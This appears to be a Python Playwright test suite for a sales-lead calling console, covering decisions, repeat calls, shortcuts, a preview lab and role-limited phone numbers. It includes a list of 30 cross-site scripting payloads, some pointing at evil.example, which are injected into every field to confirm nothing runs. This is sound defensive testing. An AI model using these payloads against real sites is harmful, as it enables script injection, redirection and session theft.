"""Deciding in a real browser: what a press does, what it must not do, and what an open page says of what is new."""

import re

import pytest
from playwright.sync_api import Error as PlaywrightError

from core.outcome import REFUSED, Outcome
from tests.browser.conftest import Seen, a_morning
from tests.browser.scene import LOST, YES
from tests.security import holes

SETTLED_S = 20 + 10 * 60 + 1


def unknowns(stage):
    return [one for one in stage.lead_ids() if stage.lead(one).state == "unknown"]


def test_unknowns_are_closed_in_two_clicks(served, sign_in):
    stage = served.stage
    lost = unknowns(stage)
    with sign_in(served, "operator") as page:
        page.click("nav[aria-label=Pages] >> text=Decide")
        page.click("text=It rang: close")
        page.wait_for_selector("text=leads are decided" if len(lost) > 1 else "text=lead is decided")
    assert unknowns(stage) == []
    assert {stage.story(one)["history"][-1]["transition"] for one in lost} == {"resolve"}


def test_refused_calls_are_rung_again_in_four_clicks_with_the_effect_read_before(served, sign_in):
    stage = served.stage
    stage.voice.outcomes, stage.voice.otherwise = [], YES
    stage.voice.asked.clear()
    refused = [one for one in stage.lead_ids() if stage.lead(one).state == "refused"]
    with sign_in(served, "operator") as page:
        page.click("nav[aria-label=Pages] >> text=Decide")
        page.click(".case-link:has(.chip.red)")
        page.click("summary:has-text('Call again')")
        assert re.search(rf"We will call {len(refused)} (person|people) now", page.inner_text(".panel[open]"))
        assert "At most" in page.inner_text(".panel[open]")
        assert stage.voice.asked == []
        page.click(".panel[open] button:has-text('Call')")
        page.wait_for_selector("text=will be called")
    stage.work()
    assert len(stage.voice.asked) == len(refused)


def test_enter_in_a_reason_presses_nothing(served, sign_in):
    stage = served.stage
    before = {one: stage.lead(one).state for one in stage.lead_ids()}
    stage.clock.forward(SETTLED_S)
    with sign_in(served, "operator") as page:
        page.goto(f"{served.base}/console/decide?state=unknown")
        page.click("summary:has-text('It did not ring, none wanted')")
        page.fill(".panel[open] input[name=why-cancel]", "because")
        page.keyboard.press("Enter")
        page.wait_for_timeout(300)
        assert "/console/decide?state=unknown" in page.url
    assert {one: stage.lead(one).state for one in stage.lead_ids()} == before


def test_two_browsers_press_call_at_once_and_a_stale_tab_presses_later_one_ring_each(served, sign_in):
    stage = served.stage
    stage.clock.forward(SETTLED_S)
    stage.voice.outcomes, stage.voice.otherwise = [], LOST
    stage.voice.asked.clear()
    lead = stage.lead(unknowns(stage)[0])
    with sign_in(served, "operator") as one, sign_in(served, "operator") as other, sign_in(served, "owner") as stale:
        for page in (one, other, stale):
            page.goto(f"{served.base}/console/leads/{lead.no}")
            page.click("summary:has-text('It did not ring: call')")
        one.click(".panel[open] button:has-text('Call')")
        other.click(".panel[open] button:has-text('Call')")
        assert "was left as it is" in other.inner_text("main")
        stage.work()
        assert stage.lead(lead.id).state == "unknown"
        stage.clock.forward(SETTLED_S)
        stale.click(".panel[open] button:has-text('Call')")
        assert "was left as it is" in stale.inner_text("main")
        stage.work()
    assert len(stage.voice.asked) == 1


def test_without_scripts_one_finds_decides_pauses_and_sets_up(served, sign_in):
    stage = served.stage
    with sign_in(served, "owner", scripts=False) as page:
        page.fill("input[name=what]", "8 916 200 10 20")
        page.press("input[name=what]", "Enter")
        assert "who=" in page.url
        assert "916200" not in page.url
        assert "Юлия" in page.inner_text("main")
        page.goto(f"{served.base}/console/decide")
        page.click("text=It rang: close")
        assert "decided" in page.inner_text("main")
        page.click(".status summary")
        page.click("text=Pause all calls")
        assert "Calls were stopped by" in page.inner_text("main")
        page.click(".status summary")
        page.click(".over[open] button:has-text('Resume calls')")
        assert "Calls are on" in page.inner_text(".status")
        page.goto(f"{served.base}/console/sources/tilda-main/lab")
        page.fill("textarea[name=number]", "Phone\nВаш_номер")
        page.click("[data-show]")
        assert re.search(r"\+\d+\s+would now be called", page.inner_text("main"))
    assert unknowns(stage) == []


def test_an_open_list_says_that_a_lead_came_and_moves_nothing(served, sign_in):
    stage = served.stage
    with sign_in(served, "operator") as page:
        page.goto(f"{served.base}/console/decide?state=held")
        box = page.locator("input[name=lead]").first
        box.uncheck()
        rows = page.inner_text(".picks")
        page.goto(f"{served.base}/console/leads")
        before = page.inner_text("table.leads")
        assert page.locator("[data-news]").is_hidden()
        stage.take({"id": "fresh", "Name": "Новая"}, source="tilda-main")
        stage.work()
        page.wait_for_selector("[data-news]:visible", timeout=12_000)
        assert page.inner_text("table.leads") == before
        assert rows
        page.click("[data-news] a")
        assert "Новая" in page.inner_text("table.leads")


def test_the_pulse_asks_with_its_tag_and_leads_to_the_sign_in_when_the_session_ends(served, sign_in):
    from flow import people

    with sign_in(served, "operator") as page:
        answers = []
        page.on("response", lambda one: answers.append(one.status) if one.url.endswith("/pulse") else None)
        page.wait_for_timeout(6_500)
        assert 304 in answers
        with served.stage.store.read() as tx:
            from store import people as rows

            user = rows.all_users(tx)[-1]
        people.end_sessions(served.stage.parts, user, "test")
        page.wait_for_url("**/console/login**", timeout=12_000)


def test_keys_work_on_a_russian_layout_and_not_when_they_are_switched_off(served, sign_in):
    press = "([key, code]) => document.body.dispatchEvent(new KeyboardEvent('keydown', {key, code, bubbles: true}))"
    with sign_in(served, "operator") as page:
        page.goto(f"{served.base}/console/leads")
        page.evaluate(press, ["о", "KeyJ"])
        page.evaluate(press, ["о", "KeyJ"])
        second = page.locator("table.leads a.whole").nth(1)
        assert second.evaluate("one => one === document.activeElement")
        page.evaluate(press, [".", "Slash"])
        assert page.evaluate("document.activeElement.name") == "what"
        page.evaluate("document.activeElement.blur()")
        page.evaluate(press, ["п", "KeyG"])
        page.evaluate(press, ["ш", "KeyI"])
        page.wait_for_url("**/console/decide")
        page.goto(f"{served.base}/console/me")
        page.select_option("select[name=keys]", "off")
        page.click("text=Keep")
        page.goto(f"{served.base}/console/leads")
        page.evaluate(press, ["о", "KeyJ"])
        assert page.evaluate("document.activeElement.tagName") == "BODY"


def test_the_lab_shows_what_a_click_would_do_and_keeps_the_focus(served, sign_in):
    with sign_in(served, "owner") as page:
        seen = Seen(page)
        held = next(
            one for one in map(served.stage.lead, served.stage.lead_ids()) if one.reason == "no_number" and one.person
        )
        page.goto(f"{served.base}/console/sources/tilda-main/lab?lead={held.no}")
        assert page.locator("[data-preview=call]").inner_text().find("No call") >= 0
        page.click("[data-leaf]:has-text('Ваш_номер')")
        page.click("text=or here")
        page.wait_for_selector("[data-preview=call] .call")
        assert page.input_value("textarea[name=number]") == "Phone\nВаш_номер"
        assert "would now be called" in page.inner_text("[data-preview=rest]")
        page.click("textarea[name=sms]")
        page.keyboard.type("Ещё. ")
        page.wait_for_function("document.querySelector('[data-preview=rest] .plus')?.textContent")
        assert page.evaluate("document.activeElement.name") == "sms"
        page.click("[data-preview=rest] button:has-text('Save')")
        assert "in force on all machines" in page.inner_text("main")
        assert seen.errors == []
    text = (served.files / "tilda-main.yaml").read_text(encoding="utf-8")
    assert text.startswith("# tilda-main: the owner's own words")
    assert "[Phone, Ваш_номер]" in text


VECTORS = [
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    '"><script>window.ran=1</script>',
    "javascript:window.ran=1",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "{{ 7*7 }}${7*7}",
    "'onmouseover='window.ran=1",
    '" autofocus onfocus="window.ran=1',
    "<a href='javascript:window.ran=1'>x</a>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<style>*{background:url(x)}</style>",
    "<math><mtext><img src=x onerror=window.ran=1>",
    "<base href=//evil.example>",
    "\u202e<script>window.ran=1</script>",
    "<details open ontoggle=window.ran=1>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<object data=javascript:window.ran=1>",
    "%3Cscript%3Ewindow.ran=1%3C/script%3E",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    "<script src=//evil.example/x.js></script>",
    "]]><script>window.ran=1</script>",
    "<!--<script>window.ran=1//-->",
    "\\u003cscript\\u003ewindow.ran=1",
    "<x onclick=window.ran=1>",
    "<template><script>window.ran=1</script></template>",
    "<input autofocus onfocus=window.ran=1>",
    "<video><source onerror=window.ran=1>",
]


def what_a_stranger_makes_pages_do(served, sign_in):
    """(paths on which something of his ran, those that led away, what their policy forbade), after he wrote into every
    field there is."""
    stage = served.stage
    stage.voice.otherwise = Outcome(REFUSED, error=VECTORS[0], http_status=200, reply=VECTORS[1].encode())
    ids = []
    for n, vector in enumerate(VECTORS):
        body = {"id": f"x{n}", "Name": vector, "Phone": f"+7 916 333 {n:02} 00", "utm_source": vector, vector: vector}
        ids.append(stage.take(body, source="tilda-main"))
        stage.work()
    stage.take(b"<script>window.ran=1</script>", source="tilda-main", content_type="text/html")
    stage.work()
    ran, away, forbidden = [], [], []
    with sign_in(served, "owner") as page:
        seen = Seen(page)
        paths = ["", "decide", "leads", "deliveries", "sources/tilda-main", "audit"]
        paths += [f"leads/{stage.lead(one).no}" for one in ids[::3]]
        paths += [f"sources/tilda-main/lab?lead={stage.lead(one).no}" for one in ids[::7]]
        for path in paths:
            try:
                page.goto(f"{served.base}/console/{path}")
                if page.evaluate("window.ran") is not None:
                    ran.append(path)
                forbidden += [f"{path}: {told}" for told in (*seen.forbidden(), *seen.errors)]
            except PlaywrightError:  # the page was left while it was being asked
                away.append(path)
                page.wait_for_timeout(500)
            if not page.url.startswith(served.base):
                away.append(path)
            seen.errors.clear()
    return ran, away, forbidden


@pytest.mark.security
def test_t36_nothing_that_a_stranger_wrote_runs(served, sign_in):
    assert len(VECTORS) == 30
    assert what_a_stranger_makes_pages_do(served, sign_in) == ([], [], [])


@pytest.mark.security
@pytest.mark.parametrize(("opened", "run"), [(["raw_pages"], False), (["raw_pages", "any_script"], True)])
def test_t36_pages_that_escape_nothing_are_found(tmp_path, sign_in, opened, run):
    """With the policy that each page brings nothing runs all the same, and the browser says so; without it, it runs."""
    with holes.opened(*opened):
        bare = a_morning(tmp_path, 26)
        try:
            ran, _away, forbidden = what_a_stranger_makes_pages_do(bare, sign_in)
        finally:
            bare.close()
    assert len(forbidden) > 10
    assert (len(ran) > 3) if run else ran == []


@pytest.mark.parametrize("role", ["viewer", "operator"])
def test_copying_a_number_needs_a_role_and_is_noted(served, sign_in, role):
    stage = served.stage
    lead = stage.lead(unknowns(stage)[0])
    with sign_in(served, role) as page:
        page.goto(f"{served.base}/console/leads/{lead.no}")
        shown = page.locator("text=show (it is noted who looked)")
        assert shown.count() == (1 if role == "operator" else 0)
        if role == "operator":
            shown.click()
            digits = re.sub(r"\D", "", page.inner_text(".side"))
            assert lead.number in digits
